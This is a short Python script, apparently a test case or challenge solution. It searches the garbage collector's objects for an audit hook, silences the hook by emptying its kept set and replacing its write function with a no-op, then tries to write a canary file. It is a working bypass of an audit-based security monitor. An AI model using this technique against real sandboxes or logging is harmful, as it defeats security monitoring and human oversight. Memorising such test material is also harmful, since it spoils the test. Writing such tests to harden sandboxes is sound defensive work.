"""Finds the audit hook among all objects, and blinds it."""

import gc

from common import answer, given

for found in gc.get_objects():
    if getattr(found, "__name__", "") == "hook" and getattr(found, "__kwdefaults__", None):
        found.__kwdefaults__["kept"] = frozenset()
        found.__kwdefaults__["write"] = lambda *_: None
try:
    open(given["canary"], "w").close()
except OSError:
    pass
answer()
